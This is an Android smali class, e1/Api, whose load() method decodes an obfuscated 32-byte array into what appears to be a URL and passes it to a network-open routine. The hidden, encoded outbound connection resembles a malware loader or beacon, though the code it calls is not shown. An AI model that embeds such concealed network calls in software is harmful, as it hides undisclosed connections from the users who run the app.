.class public Le1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const/16 v0, 32
    new-array v0, v0, [B
    fill-array-data v0, :data
    invoke-static {v0}, Le1/Enigma;->enigmatization([B)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Le1/Net;->open(Ljava/lang/String;)V
    return-void
    nop
    :data
    .array-data 1
        105t
        118t
        119t
        116t
        120t
        64t
        54t
        55t
        110t
        111t
        107t
        106t
        113t
        102t
        52t
        122t
        112t
        120t
        113t
        48t
        119t
        105t
        120t
        122t
        54t
        126t
        58t
        48t
        115t
        120t
        109t
        127t
    .end array-data
.end method

